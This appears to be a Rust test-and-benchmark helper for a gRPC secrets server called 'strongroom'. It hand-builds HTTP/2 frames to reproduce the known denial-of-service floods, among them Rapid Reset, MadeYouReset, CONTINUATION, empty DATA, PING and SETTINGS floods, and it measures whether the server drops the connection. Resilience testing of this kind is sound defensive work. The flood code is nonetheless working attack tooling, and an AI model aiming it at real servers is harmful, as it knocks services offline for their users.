//! Floods of HTTP/2 frames, as somebody with a good certificate can send them: frames as bytes, without an HTTP library, which
//! would refuse to send most of them. Shared by tests and bench.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Instant;

use rustls_pki_types::ServerName;
use strongroom::api::Method;
use strongroom::client::tls::{ClientFiles, ClientTls};
use strongroom::model::SpiffeId;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout_at;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

/// What is sent over and over.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flood {
    /// A call, taken back at once (CVE-2023-44487).
    RapidReset,
    /// A call, and a frame that makes the server take it back (CVE-2025-8671, "MadeYouReset").
    MadeYouReset,
    /// A header that never ends (VU#421644).
    Continuation,
    /// A message of nothing, piece by piece (CVE-2019-9518).
    EmptyData,
    /// A question whether the server is there (CVE-2019-9512).
    Ping,
    /// Settings to be acknowledged (CVE-2019-9515).
    Settings,
    /// Calls without a message, far more than anybody may make, each of which waits for its refusal.
    Calls,
}

impl Flood {
    /// All that are more than calls.
    pub(crate) const ALL: [Self; 6] =
        [Self::RapidReset, Self::MadeYouReset, Self::Continuation, Self::EmptyData, Self::Ping, Self::Settings];

    /// One word for each.
    pub(crate) const fn word(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid_reset",
            Self::MadeYouReset => "made_you_reset",
            Self::Continuation => "continuation",
            Self::EmptyData => "empty_data",
            Self::Ping => "ping",
            Self::Settings => "settings",
            Self::Calls => "calls",
        }
    }
}

pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
pub(crate) const END_STREAM: u8 = 1;
const ACK: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;
/// The longest frame that a server takes if it says nothing else (RFC 9113, section 4.2).
const FRAME_BYTES: usize = 16_384;
/// Frames that leave in one write.
const AT_ONCE: u32 = 64;

/// A frame (RFC 9113, section 4.1).
pub(crate) fn frame(into: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    into.extend_from_slice(&length[1..]);
    into.extend_from_slice(&[kind, flags]);
    into.extend_from_slice(&stream.to_be_bytes());
    into.extend_from_slice(payload);
}

/// What a frame that came says.
struct Said {
    kind: u8,
    flags: u8,
    stream: u32,
    payload: Vec<u8>,
}

/// The next frame that comes; `None` once the server has ended the connection.
async fn next_frame(from: &mut (impl AsyncRead + Unpin)) -> Option<Said> {
    let mut head = [0; 9];
    from.read_exact(&mut head).await.ok()?;
    let [high, middle, low, kind, flags, stream @ ..] = head;
    let mut payload = vec![0; usize::from(high) << 16 | usize::from(middle) << 8 | usize::from(low)];
    from.read_exact(&mut payload).await.ok()?;
    Some(Said { kind, flags, stream: u32::from_be_bytes(stream), payload })
}

/// The header of a call (RFC 7541: indexed fields, and literals without indexing).
pub(crate) fn header(method: Method) -> Vec<u8> {
    let mut block = vec![0x83, 0x87];
    let mut literal = |name: &[u8], value: &[u8]| {
        block.extend_from_slice(name);
        block.push(u8::try_from(value.len()).expect("short"));
        block.extend_from_slice(value);
    };
    literal(&[0x04], method.path().as_bytes());
    literal(&[0x01], b"localhost");
    literal(&[0x0f, 0x10], b"application/grpc");
    literal(b"\x00\x02te", b"trailers");
    block
}

/// What a client says first (RFC 9113, section 3.4).
pub(crate) fn first_words() -> Vec<u8> {
    let mut words = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut words, SETTINGS, 0, 0, &[]);
    words
}

/// A connection with these files, on which the client has said its first words.
pub(crate) async fn knock(address: &str, server: SpiffeId, files: &ClientFiles) -> TlsStream<TcpStream> {
    let mut stream = shake_hands(address, server, files).await;
    stream.write_all(&first_words()).await.expect("sent");
    stream
}

/// A connection with these files, on which nothing was said.
pub(crate) async fn shake_hands(address: &str, server: SpiffeId, files: &ClientFiles) -> TlsStream<TcpStream> {
    let tls = ClientTls::from_files(files, server).expect("the files of the site");
    let stream = TcpStream::connect(address).await.expect("connected");
    let name = ServerName::try_from("localhost").expect("a name");
    TlsConnector::from(Arc::clone(&tls.config())).connect(name, stream).await.expect("a handshake")
}

/// Sends until `end`, or until the server ends the connection. Returns how many frames went out, and whether the server ended it.
pub(crate) async fn flood(stream: TlsStream<TcpStream>, kind: Flood, end: Instant) -> (u64, bool) {
    let (mut from, mut to) = tokio::io::split(stream);
    let reader = tokio::spawn(async move {
        let mut buffer = vec![0; 16 * 1024];
        while from.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
    });
    let (header, mut sent, mut stream, mut begun) = (header(Method::RevealSecret), 0, 1, false);
    let mut ended = false;
    while Instant::now() < end && !ended {
        let mut bytes = Vec::new();
        for _ in 0..AT_ONCE {
            match kind {
                Flood::RapidReset => {
                    frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, stream, &header);
                    frame(&mut bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                    stream += 2;
                }
                Flood::MadeYouReset => {
                    frame(&mut bytes, HEADERS, END_HEADERS, stream, &header);
                    frame(&mut bytes, WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
                    stream += 2;
                }
                Flood::Calls => {
                    frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, stream, &header);
                    stream += 2;
                }
                Flood::Continuation if !begun => frame(&mut bytes, HEADERS, 0, stream, &header),
                Flood::Continuation => frame(&mut bytes, CONTINUATION, 0, stream, b"\x00\x01x\x01y"),
                Flood::EmptyData if !begun => frame(&mut bytes, HEADERS, END_HEADERS, stream, &header),
                Flood::EmptyData => frame(&mut bytes, DATA, 0, stream, &[]),
                Flood::Ping => frame(&mut bytes, PING, 0, 0, &[7; 8]),
                Flood::Settings => frame(&mut bytes, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            }
            begun = true;
        }
        sent += u64::from(AT_ONCE);
        // The server may let it wait.
        let Ok(written) = timeout_at(end.into(), to.write_all(&bytes)).await else { break };
        ended = written.is_err() || reader.is_finished();
    }
    reader.abort();
    (sent, ended)
}

/// The same over and over until `end`: whoever is cut off comes again. Returns how many frames went out, and how often the
/// server ended the connection.
pub(crate) async fn over_and_over(kind: Flood, address: SocketAddr, server: SpiffeId, files: ClientFiles, end: Instant) -> (u64, u32) {
    let (mut sent, mut ended) = (0, 0);
    while Instant::now() < end {
        let stream = knock(&address.to_string(), server.clone(), &files).await;
        let (frames, over) = flood(stream, kind, end).await;
        sent += frames;
        ended += u32::from(over);
    }
    (sent, ended)
}

/// Begins so many calls at once, of which nothing more comes, whatever the server said of how many it takes. Returns the streams
/// that it refused.
pub(crate) async fn begin_calls(stream: &mut TlsStream<TcpStream>, count: u32) -> Vec<u32> {
    let mut bytes = Vec::new();
    for number in 0..count {
        frame(&mut bytes, HEADERS, END_HEADERS, 1 + 2 * number, &header(Method::RevealSecret));
    }
    stream.write_all(&bytes).await.expect("sent");
    let said = ping(stream).await.expect("the connection goes on");
    said.iter().filter(|frame| frame.kind == RST_STREAM).map(|frame| frame.stream).collect()
}

/// Whether the server is still there.
pub(crate) async fn is_there(stream: &mut TlsStream<TcpStream>) -> bool {
    ping(stream).await.is_some()
}

/// Asks whether the server is there. Returns what it said before it answered; `None` if it has ended the connection.
async fn ping(stream: &mut TlsStream<TcpStream>) -> Option<Vec<Said>> {
    let mut bytes = Vec::new();
    frame(&mut bytes, PING, 0, 0, &[7; 8]);
    stream.write_all(&bytes).await.ok()?;
    let mut said = Vec::new();
    loop {
        let frame = next_frame(stream).await?;
        if frame.kind == PING && frame.flags == ACK {
            return Some(said);
        }
        said.push(frame);
    }
}

/// Says nothing more until the server ends the connection. Returns when it first asked to leave (RFC 9113, section 6.8), if it
/// did, and when it ended the connection.
pub(crate) async fn until_ended(mut stream: TlsStream<TcpStream>) -> (Option<Instant>, Instant) {
    let mut asked = None;
    while let Some(frame) = next_frame(&mut stream).await {
        if frame.kind == GOAWAY {
            asked.get_or_insert_with(Instant::now);
        }
    }
    (asked, Instant::now())
}

/// The header of a call and what comes of its message (gRPC over HTTP/2: flag, length, message), the whole of it or less.
pub(crate) fn call_with(method: Method, part: &[u8], whole: bool) -> Vec<u8> {
    let mut bytes = Vec::new();
    frame(&mut bytes, HEADERS, END_HEADERS, 1, &header(method));
    let pieces: Vec<_> = part.chunks(FRAME_BYTES).collect();
    for (number, piece) in pieces.iter().enumerate() {
        let is_end = whole && number + 1 == pieces.len();
        frame(&mut bytes, DATA, if is_end { END_STREAM } else { 0 }, 1, piece);
    }
    bytes
}

/// Reads what the server tells in the first call, and answers each message as a careful client may: it opens both windows again
/// and measures its way. Returns how many messages came before so many had come, the connection ended, or `end`.
pub(crate) async fn answer_each(stream: TlsStream<TcpStream>, messages: usize, end: Instant) -> usize {
    let (mut from, mut to) = tokio::io::split(stream);
    let (mut told, mut data) = (0, Vec::new());
    while told < messages {
        let Ok(Some(said)) = timeout_at(end.into(), next_frame(&mut from)).await else { break };
        if said.kind != DATA {
            continue;
        }
        data.extend_from_slice(&said.payload);
        let mut answers = Vec::new();
        while let Some(length) = data.first_chunk::<5>().map(|head| 5 + u32::from_be_bytes([head[1], head[2], head[3], head[4]])) {
            if data.len() < length as usize {
                break;
            }
            data.drain(..length as usize);
            told += 1;
            frame(&mut answers, PING, 0, 0, &[7; 8]);
            frame(&mut answers, WINDOW_UPDATE, 0, 0, &length.to_be_bytes());
            frame(&mut answers, WINDOW_UPDATE, 0, 1, &length.to_be_bytes());
        }
        let Ok(Ok(())) = timeout_at(end.into(), to.write_all(&answers)).await else { break };
    }
    told
}
